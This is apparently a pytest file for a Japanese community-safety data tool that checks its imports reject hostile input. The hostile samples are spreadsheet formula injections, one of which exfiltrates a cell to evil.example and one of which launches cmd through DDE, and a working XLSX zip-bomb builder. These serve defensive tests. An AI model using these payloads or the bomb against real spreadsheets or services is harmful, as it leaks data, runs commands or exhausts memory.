"""Imports that refuse hostile or oversized input fast and clearly, never echo personal data, never block a send.

Every test here builds real files (CSV, XLSX, a crafted zip bomb) and real
SQLite databases in tmp_path; the CLI runs as a real subprocess.
"""

from __future__ import annotations

import csv
import json
import os
import struct
import subprocess
import sys
import textwrap
import threading
import time
import zipfile
import zlib

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from anshin_lab.app import imports
from anshin_lab.app.imports import load_fraud_calls, load_incidents
from anshin_lab.app.workspace import init_workspace
from anshin_lab.core.errors import DataError, StoreError
from anshin_lab.core.settings import load_settings
from anshin_lab.records.limits import Limits
from anshin_lab.records.members import AreaDirectory, check_members
from anshin_lab.storage import store
from anshin_lab.storage.batches import frame_rows, save_batch
from anshin_lab.storage.incidents import INCIDENTS, RECORD_COLUMNS
from anshin_lab.storage.members import save_members

from .conftest import HEADERS, row, write_csv

DIRECTORY = AreaDirectory(cities={"鹿児島市": "46201", "霧島市": "46218"},
                          stations={"鹿児島中央警察署": ("46201",), "霧島警察署": ("46218",)})
MEMBER_COLUMNS = ["member_id", "email", "categories", "areas", "status", "opted_in_at", "is_staff"]
MEMBER = {"member_id": "M1", "email": "taro.k1@example.jp", "categories": "threat", "areas": "鹿児島市",
          "status": "active", "opted_in_at": "2024-04-01T09:00:00+09:00", "is_staff": "False"}


def cli(*args, env=None):
    return subprocess.run([sys.executable, "-m", "anshin_lab", *args], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=120)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    """A workspace built by ``init_workspace`` (layers, database), without sample data: about a second."""
    return init_workspace(tmp_path_factory.mktemp("limits") / "ws")


def limits(**changes) -> Limits:
    return Limits.from_settings(load_settings(environ={}, **changes))


# -- 1. quarantine files a spreadsheet opens run no formula ---------------------------------------

FORMULAS = {
    "概要": '=HYPERLINK("http://evil.example/?leak="&A2,"詳細")',
    "手口": "+cmd|' /C calc'!A0",
    "発生場所": "@SUM(1+1)",
    "行為者の特徴": "-2+3",
    "被害者学職・年代": "＝1+1",  # full width: a Japanese spreadsheet takes it as a formula too
}


def test_quarantine_cells_cannot_run_as_formulas(tmp_path, fresh_workspace):
    headers = HEADERS + ["=1+2"]
    bad = row(事案番号="K-2", 分類="交通違反", **FORMULAS, **{"=1+2": "@cell"})
    path = write_csv(tmp_path / "formulas.csv", [row(), bad], headers=headers)
    report = imports.import_incidents(path, fresh_workspace)
    assert (report.accepted, report.rejected) == (1, 1)
    with open(report.quarantine_path, encoding="utf-8-sig", newline="") as stream:
        header, *cells = list(csv.reader(stream))
    quarantined = dict(zip(header, cells[0]))
    for column, text in FORMULAS.items():
        assert quarantined[column] == "'" + text, column
    assert "'=1+2" in header and quarantined["'=1+2"] == "'@cell"
    assert quarantined["分類"] == "交通違反"  # harmless cells are written as they were
    assert report.quarantine_path.stat().st_mode & 0o777 == 0o600


# -- 2. errors never quote personal data ------------------------------------------------------------

BAD_ADDRESSES = ["taro..k@docomo.ne.jp", "hanako@", "太郎@example.jp", "jiro@@example.jp", "saburo.example.jp"]


def test_member_problems_never_quote_addresses(tmp_path, fresh_workspace, capsys):
    members = [dict(MEMBER)] + [{**MEMBER, "member_id": f"B{n}", "email": address}
                                for n, address in enumerate(BAD_ADDRESSES)]
    members.append({**MEMBER, "member_id": "D1", "email": "TARO.K1@example.jp"})  # M1's address again
    path = tmp_path / "members.csv"
    pd.DataFrame(members, columns=MEMBER_COLUMNS).to_csv(path, index=False)
    report = imports.import_members(path, fresh_workspace, directory=DIRECTORY)
    assert (report.accepted, report.rejected) == (1, len(BAD_ADDRESSES) + 1)
    # A second file: a new member whose address another stored member has (a conflict found when storing).
    pd.DataFrame([{**MEMBER, "member_id": "M9"}], columns=MEMBER_COLUMNS).to_csv(tmp_path / "m2.csv", index=False)
    second = imports.import_members(tmp_path / "m2.csv", fresh_workspace, directory=DIRECTORY)
    assert second.conflicts == 1
    for line in report.lines() + second.lines():
        print(line)
    printed = capsys.readouterr()
    reasons = " ".join(report.rejected_rows["reason"]) + " ".join(second.rejected_rows["reason"])
    assert "古い携帯電話" in reasons and "2行目の会員「M1」と重複" in reasons and "登録済み" in reasons
    for address in [*BAD_ADDRESSES, "taro.k1@example.jp", "TARO.K1@example.jp", "taro..k", "太郎"]:
        for text in (reasons, printed.out, printed.err):
            assert address not in text
    # The quarantine file keeps the rows as they were (owner only), so a person can correct them.
    saved = pd.read_csv(report.quarantine_path, dtype=str, encoding="utf-8-sig")
    assert set(BAD_ADDRESSES) <= set(saved["email"])


def test_a_file_without_a_header_row_is_refused_without_quoting_its_first_record(tmp_path, workspace):
    path = tmp_path / "no_header.csv"
    pd.DataFrame([MEMBER, {**MEMBER, "member_id": "M2", "email": "hanako.s@example.jp"}]).to_csv(
        path, index=False, header=False)
    result = cli("members", "import", str(path), "--workspace", str(workspace.root))
    assert result.returncode == 1
    assert "必須の列がありません" in result.stderr and "1行目が見出しの行か" in result.stderr
    assert "taro.k1" not in result.stderr + result.stdout and "hanako.s" not in result.stderr + result.stdout
    incidents = write_csv(tmp_path / "no_header_incidents.csv", [row(), row(事案番号="K-2")])
    lines = incidents.read_bytes().split(b"\r\n", 1)[1]  # the police export without its header line
    incidents.write_bytes(lines)
    result = cli("incidents", "import", str(incidents), "--workspace", str(workspace.root))
    assert result.returncode == 1 and "必須の列がありません" in result.stderr
    for personal in (row()["発生場所"], row()["概要"], row()["行為者の特徴"]):
        assert personal not in result.stderr + result.stdout


def test_coordinates_are_never_quoted_in_reasons(tmp_path):
    result = load_incidents(write_csv(tmp_path / "c.csv", [
        row(緯度="35.6812", 経度="139.7671"), row(事案番号="K-2", 緯度="130.5311", 経度="31.5622"),
        row(事案番号="K-3", 緯度="北緯31.5633度")]))
    reasons = " ".join(result.rejected["reason"])
    assert len(result.rejected) == 3 and "鹿児島県の外" in reasons and "入れ替わって" in reasons
    for value in ("35.6812", "139.7671", "130.5311", "31.5622", "31.5633"):
        assert value not in reasons


def test_a_store_error_never_quotes_the_rows(tmp_path):
    engine = store.connect(f"sqlite:///{tmp_path / 'refusing.sqlite'}")
    with engine.begin() as conn:  # a database that refuses the insert (as a full disk or a constraint would)
        conn.exec_driver_sql("CREATE TRIGGER refuse BEFORE INSERT ON members BEGIN SELECT RAISE(ABORT, 'refused'); END")
    checked = check_members(pd.DataFrame([MEMBER], columns=MEMBER_COLUMNS, dtype=object), DIRECTORY)
    with pytest.raises(StoreError, match="何も書き込んでいません") as info:
        save_members(engine, checked.records, directory=DIRECTORY, source_name="m.csv")
    text = str(info.value)
    assert "refused" in text and "taro.k1@example.jp" not in text and "token" not in text.lower()
    engine.dispose()


# -- 3. every sheet of a workbook ----------------------------------------------------------------------

def _workbook(path, sheets: dict):
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for values in rows:
            sheet.append(values)
    book.save(path)
    return path


def test_rows_of_every_sheet_are_read(tmp_path):
    def cells(**changes):
        return [row(**changes)[h] for h in HEADERS]

    path = _workbook(tmp_path / "months.xlsx", {
        "4月": [HEADERS, cells(), cells(事案番号="K-2", 分類="交通違反")],
        "5月": [HEADERS, cells(事案番号="K-3"), [], cells(事案番号="K-4")],
        "空": [],
    })
    book = openpyxl.load_workbook(path)
    book["5月"].sheet_state = "hidden"  # a hidden sheet is read too
    book.save(path)
    result = load_incidents(path)
    assert result.rows_read == 4 and list(result.incidents["incident_id"]) == ["K-1", "K-3", "K-4"]
    assert list(result.source_rows) == [2, 2, 4]  # the rows as each sheet numbers them
    rejected = result.rejected.iloc[0]
    assert (rejected["シート"], rejected["row"]) == ("4月", 3)
    duplicate = load_incidents(_workbook(tmp_path / "dup.xlsx", {"a": [HEADERS, cells()], "b": [HEADERS, cells()]}))
    assert "シート「a」の2行目と同じ内容" in duplicate.rejected.iloc[0]["reason"]


def test_a_workbook_whose_sheets_differ_is_refused(tmp_path, workspace):
    cells = [row()[h] for h in HEADERS]
    path = _workbook(tmp_path / "mixed.xlsx", {"事案": [HEADERS, cells], "メモ": [["確認者", "日付"], ["佐藤", "4/1"]]})
    result = cli("incidents", "import", str(path), "--workspace", str(workspace.root))
    assert result.returncode == 1
    assert "シート「メモ」は見出しが違います" in result.stderr and "mixed.xlsx" in result.stderr
    assert "佐藤" not in result.stderr


# -- 4. limits, checked before parsing ----------------------------------------------------------------

def test_a_file_over_the_size_limit_is_refused_before_reading(tmp_path, workspace):
    path = write_csv(tmp_path / "big.csv", [row(事案番号=f"K-{n}") for n in range(50)])
    result = cli("incidents", "import", str(path), "--workspace", str(workspace.root),
                 env={"ANSHIN_MAX_IMPORT_BYTES": "1000"})
    assert result.returncode == 1
    assert "大きすぎます" in result.stderr and "ANSHIN_MAX_IMPORT_BYTES" in result.stderr


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_more_rows_than_the_limit_are_refused(tmp_path, suffix):
    rows = [row(事案番号=f"K-{n}") for n in range(6)]
    path = tmp_path / f"rows{suffix}"
    if suffix == ".csv":
        write_csv(path, rows)
    else:
        pd.DataFrame(rows, columns=HEADERS).to_excel(path, index=False)
    with pytest.raises(DataError, match="行が多すぎます.*max_import_rows"):
        load_incidents(path, limits=limits(max_import_rows=5))
    assert load_incidents(path, limits=limits(max_import_rows=6)).accepted == 6


def _crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine: the CRC-32 of A+B from those of A and B (B ``len2`` bytes long)."""
    def times(matrix, vector):
        total, position = 0, 0
        while vector:
            if vector & 1:
                total ^= matrix[position]
            vector >>= 1
            position += 1
        return total

    def square(matrix):
        return [times(matrix, matrix[n]) for n in range(32)]

    if len2 == 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = square(odd)
    odd = square(even)
    while True:
        even = square(odd)
        if len2 & 1:
            crc1 = times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = square(even)
        if len2 & 1:
            crc1 = times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def _bomb_part(head: bytes, block: bytes, copies: int, foot: bytes) -> tuple[bytes, int, int]:
    """(raw deflate data, CRC-32, size) of head + block * copies + foot, without ever holding it inflated.

    Each piece is compressed by a fresh compressor ending in a full flush, so
    the block's compressed bytes can be repeated and the pieces concatenated.
    """
    def piece(data, mode):
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(mode)

    packed_block = piece(block, zlib.Z_FULL_FLUSH)
    data = piece(head, zlib.Z_FULL_FLUSH) + packed_block * copies + piece(foot, zlib.Z_FINISH)
    crc_blocks, size_blocks, base_crc, base_size, n = 0, 0, zlib.crc32(block), len(block), copies
    while n:
        if n & 1:
            crc_blocks, size_blocks = _crc32_combine(crc_blocks, base_crc, base_size), size_blocks + base_size
        base_crc, base_size, n = _crc32_combine(base_crc, base_crc, base_size), base_size * 2, n >> 1
    crc = _crc32_combine(_crc32_combine(zlib.crc32(head), crc_blocks, size_blocks), zlib.crc32(foot), len(foot))
    return data, crc, len(head) + size_blocks + len(foot)


def _write_zip(path, parts: list[tuple[str, bytes, int, int]]):
    """A zip archive of already deflated parts (name, data, crc, size), each under 4 GiB (no zip64)."""
    out, directory = bytearray(), bytearray()
    for name, data, crc, size in parts:
        encoded = name.encode()
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, crc, len(data), size,
                                 len(encoded), 0, 0, 0, 0, 0, len(out)) + encoded
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc, len(data), size, len(encoded), 0)
        out += encoded + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(directory), len(out), 0)
    path.write_bytes(bytes(out + directory + end))
    return path


def _deflated(name: str, text: str):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = text.encode()
    return name, compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data)


def xlsx_bomb(path, *, sheets: int, copies: int):
    """A well-formed XLSX whose ``sheets`` worksheets each inflate to ``copies`` MiB of incident rows."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    cells = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in HEADERS)
    record = "<row>" + "".join(f'<c t="inlineStr"><is><t>{row()[h]}</t></is></c>' for h in HEADERS) + "</row>"
    block = record.encode() * ((1 << 20) // len(record.encode()))  # about 1 MiB of whole rows
    parts = [
        _deflated("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                  'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                  'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                  '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                  'spreadsheetml.sheet.main+xml"/>' + "".join(
                      f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/vnd.openxmlformats-'
                      f'officedocument.spreadsheetml.worksheet+xml"/>' for n in range(1, sheets + 1)) + "</Types>"),
        _deflated("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                  f'package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" '
                  f'Target="xl/workbook.xml"/></Relationships>'),
        _deflated("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
                  + "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, sheets + 1))
                  + "</sheets></workbook>"),
        _deflated("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                  'openxmlformats.org/package/2006/relationships">' + "".join(
                      f'<Relationship Id="rId{n}" Type="{rel}/worksheet" Target="worksheets/sheet{n}.xml"/>'
                      for n in range(1, sheets + 1)) + "</Relationships>"),
    ]
    head = f'<?xml version="1.0"?><worksheet xmlns="{main}"><sheetData><row>{cells}</row>'.encode()
    data, crc, size = _bomb_part(head, block, copies, b"</sheetData></worksheet>")
    parts += [(f"xl/worksheets/sheet{n}.xml", data, crc, size) for n in range(1, sheets + 1)]
    return _write_zip(path, parts)


def test_the_bomb_builder_makes_a_valid_archive(tmp_path):
    path = xlsx_bomb(tmp_path / "small.xlsx", sheets=1, copies=2)
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None  # every CRC right
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert sheet.count(b"<row>") > 1000 and sheet.endswith(b"</worksheet>")
    # Within generous limits it is a real workbook of good incidents.
    loaded = load_incidents(path, limits=limits(max_xlsx_ratio=10_000))
    assert loaded.rows_read == sheet.count(b"<row>") - 1 and loaded.accepted == 1  # all the same incident


REFUSAL_PROBE = textwrap.dedent("""
    import json, resource, sys, time
    from anshin_lab.app.imports import import_incidents
    from anshin_lab.app.workspace import open_workspace
    from anshin_lab.core.errors import DataError

    ws = open_workspace(sys.argv[2])
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    try:
        import_incidents(sys.argv[1], ws)
        message = None
    except DataError as exc:
        message = str(exc)
    elapsed = time.perf_counter() - started
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps({"elapsed_s": elapsed, "rss_before_kb": before, "rss_peak_kb": peak, "message": message}))
""")


def _probe(path, workspace, env=None):
    result = subprocess.run([sys.executable, "-c", REFUSAL_PROBE, str(path), str(workspace.root)],
                            capture_output=True, text=True, timeout=120, env={**os.environ, **(env or {})})
    assert result.returncode == 0, result.stderr[-2000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_a_zip_bomb_is_refused_fast_with_bounded_memory(tmp_path, workspace):
    path = xlsx_bomb(tmp_path / "bomb.xlsx", sheets=1, copies=2400)  # 2.4 GiB of rows (about 3.5 million)
    size_mb = path.stat().st_size / 1e6
    assert 10 < size_mb < 20  # a "13 MB-ish" file, as the review's
    figures = _probe(path, workspace)
    grown_mb = (figures["rss_peak_kb"] - figures["rss_before_kb"]) / 1024
    print(f"zip bomb {size_mb:.1f} MB (inflates to 2.4 GiB): refused in {figures['elapsed_s'] * 1000:.2f} ms, "
          f"peak RSS {figures['rss_peak_kb'] / 1024:.0f} MB (+{grown_mb:.1f} MB)")
    assert figures["message"] and "zip 爆弾" in figures["message"] and "max_xlsx_uncompressed" in figures["message"]
    assert figures["elapsed_s"] < 1.0
    assert grown_mb < 20
    result = cli("incidents", "import", str(path), "--workspace", str(workspace.root))
    assert result.returncode == 1 and "ANSHIN_MAX_XLSX_UNCOMPRESSED" in result.stderr


def test_a_small_archive_that_inflates_too_much_is_refused_by_its_ratio(tmp_path, workspace):
    path = xlsx_bomb(tmp_path / "dense.xlsx", sheets=1, copies=150)  # 150 MiB (under the total limit) from 0.8 MB
    assert path.stat().st_size < 1_000_000
    figures = _probe(path, workspace)
    assert figures["message"] and "max_xlsx_ratio" in figures["message"] and figures["elapsed_s"] < 1.0


# -- 5. control characters and lengths ----------------------------------------------------------------

def test_control_characters_and_long_cells_put_the_row_in_quarantine(tmp_path):
    headers = HEADERS + ["車両"]
    cases = {
        "K-NUL": ({"概要": "下校中\x00の児童"}, "概要", "U+0000"),
        "K-CRLF": ({"手口": "声かけ\r\n付きまとい"}, "手口", "改行"),
        "K-ESC": ({"管轄署": "鹿児島南\x1b[31m警察署"}, "管轄署", "U+001B"),
        "K-LS": ({"手口": "声かけ\u2028付きまとい"}, "手口", "改行"),
        "K-TAB": ({"車両": "白い\t軽自動車"}, "車両", "改行かタブ"),
        "K-LF": ({"車両": "白い\n軽自動車"}, "車両", "改行"),
        "K-CR": ({"概要": "一行目\r二行目"}, "概要", "U+000D"),
        "K-NEL": ({"行為者の特徴": "男\x8540歳代"}, "行為者の特徴", "U+0085"),
        "K-LONG": ({"概要": "長" * 2001}, "概要", "長すぎます"),
    }
    good = {"K-OK1": {"概要": "一行目\n二行目\tタブ"}, "K-OK2": {"概要": "一行目\r\n二行目"},
            "K-OK3": {"概要": "長" * 2000}, "K-OK4": {"手口": "声かけ\n"}}  # a trailing line break is trimmed
    rows = [row(事案番号=k, **v) for k, v in good.items()] + [row(事案番号=k, **v) for k, (v, _, _) in cases.items()]
    result = load_incidents(write_csv(tmp_path / "controls.csv", rows, encoding="utf-8", headers=headers))
    assert sorted(result.incidents["incident_id"]) == sorted(good)
    assert result.incidents.set_index("incident_id").loc["K-OK1", "summary"] == "一行目\n二行目\tタブ"
    rejected = result.rejected.set_index("事案番号")
    for key, (_, column, words) in cases.items():
        assert rejected.loc[key, "column"] == column and words in rejected.loc[key, "reason"], key
    assert "長長長" not in " ".join(result.rejected["reason"])  # the value itself is never quoted
    assert "max_field_chars" in rejected.loc["K-LONG", "reason"]


def test_fraud_and_member_cells_are_one_line_without_controls(tmp_path):
    header = "受付番号,発生日時,市町村,手口,名乗り,結果,被害額,被害者年代"
    lines = [header, "F-1,2024-04-01 10:00,鹿児島市,還付金詐欺,市役所職員,予兆,,70代",
             'F-2,2024-04-01 10:00,鹿児島市,還付金詐欺,"市役所\r\nBcc: x",予兆,,70代',
             "F-3,2024-04-01 10:00,鹿児島市,還付金詐欺\x00,市役所職員,予兆,,70代",
             "F-4,2024-04-01 10:00,鹿児島市,還付金詐欺,市役所職員,既遂," + "9" * 400 + ",70代"]
    path = tmp_path / "calls.csv"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    result = load_fraud_calls(path)
    assert list(result.calls["call_id"]) == ["F-1"]
    reasons = dict(zip(result.rejected["受付番号"], result.rejected["reason"]))
    assert "改行" in reasons["F-2"] and "U+0000" in reasons["F-3"] and "大きすぎます" in reasons["F-4"]
    members = check_members(pd.DataFrame([MEMBER, {**MEMBER, "member_id": "M\x002", "email": "b@example.jp"},
                                          {**MEMBER, "member_id": "M3", "email": "c@example.jp", "areas": "鹿児島市\n"
                                           "霧島市"}], columns=MEMBER_COLUMNS, dtype=object), DIRECTORY)
    assert [r["member_id"] for r in members.records] == ["M1"]
    assert "U+0000" in members.rejected.iloc[0]["reason"] and "改行" in members.rejected.iloc[1]["reason"]


# -- 6. a large import never blocks another writer for long --------------------------------------------

def test_a_second_writer_waits_for_the_first_instead_of_failing(tmp_path):
    url = f"sqlite:///{tmp_path / 'busy.sqlite'}"
    first, second = store.connect(url), store.connect(url)
    with second.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA busy_timeout").scalar() >= 30_000
        assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
    holding = threading.Event()

    def hold():
        with first.begin() as conn:
            conn.execute(store.service_meta.insert().values(name="first", value="1"))
            holding.set()
            time.sleep(1.5)

    holder = threading.Thread(target=hold)
    holder.start()
    holding.wait(5)
    started = time.monotonic()
    with second.begin() as conn:
        conn.execute(store.service_meta.insert().values(name="second", value="2"))
    waited = time.monotonic() - started
    holder.join()
    assert 1.0 < waited < 10
    with second.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(store.service_meta)).scalar() == 2
    first.dispose()
    second.dispose()


def test_a_save_stopped_half_way_says_what_is_stored_and_finishes_when_run_again(tmp_path):
    engine = store.connect(f"sqlite:///{tmp_path / 'chunks.sqlite'}")
    frame = load_incidents(write_csv(tmp_path / "c.csv", [row(事案番号=f"K-{n}") for n in range(7)])).incidents
    rows = frame_rows(frame, RECORD_COLUMNS)
    with engine.begin() as conn:
        conn.exec_driver_sql("CREATE TRIGGER stop BEFORE INSERT ON incidents WHEN NEW.incident_id = 'K-5' "
                             "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
    with pytest.raises(StoreError, match="4件は保存済みです。同じファイルをもう一度取り込むと残りを保存します") as info:
        save_batch(engine, INCIDENTS, rows, source_name="c.csv", chunk_rows=2)
    assert "鹿児島市紫原" not in str(info.value)
    log = store.read_imports(engine)
    assert list(log["inserted"]) == [4] and len(store.read_incidents(engine)) == 4  # the log says what is stored
    with engine.begin() as conn:
        conn.exec_driver_sql("DROP TRIGGER stop")
    again = save_batch(engine, INCIDENTS, rows, source_name="c.csv", chunk_rows=2)
    assert (again.inserted, again.unchanged) == (3, 4) and len(store.read_incidents(engine)) == 7
    assert list(store.read_imports(engine)["inserted"]) == [3, 4]
    engine.dispose()


WRITER = textwrap.dedent("""
    import json, os, sys, time
    import sqlalchemy as sa
    from anshin_lab.storage import store

    engine = store.connect(sys.argv[1])
    stop, latencies, errors, n = sys.argv[2], [], [], 0
    print("ready", flush=True)
    while not os.path.exists(stop):
        n += 1
        started = time.monotonic()
        try:
            with engine.begin() as conn:  # what a sender does for each batch: a short write
                conn.execute(store.service_meta.insert().values(name=f"probe-{n}", value=str(n)))
        except Exception as exc:
            errors.append(str(exc).splitlines()[0])
        latencies.append(time.monotonic() - started)
        time.sleep(0.01)
    print(json.dumps({"writes": len(latencies), "max_s": max(latencies), "errors": errors[:3],
                      "failed": len(errors)}))
""")


@pytest.mark.slow
def test_a_200k_row_import_does_not_lock_out_another_writer(tmp_path, fresh_workspace):
    path = write_csv(tmp_path / "large.csv", [row(事案番号=f"K-{n}", 発生日時="2024-04-15 16:10")
                                              for n in range(200_000)], encoding="utf-8")
    stop = tmp_path / "stop"
    writer = subprocess.Popen([sys.executable, "-c", WRITER, fresh_workspace.database_url, str(stop)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert writer.stdout.readline().strip() == "ready"
        started = time.monotonic()
        report = imports.import_incidents(path, fresh_workspace)
        took = time.monotonic() - started
    finally:
        stop.touch()
        out, err = writer.communicate(timeout=120)
    figures = json.loads(out.strip().splitlines()[-1])
    print(f"200k-row import in {took:.1f} s beside a writer: {figures}")
    assert report.inserted == 200_000
    assert figures["failed"] == 0, figures["errors"]
    assert figures["writes"] > 50 and figures["max_s"] < 2.0
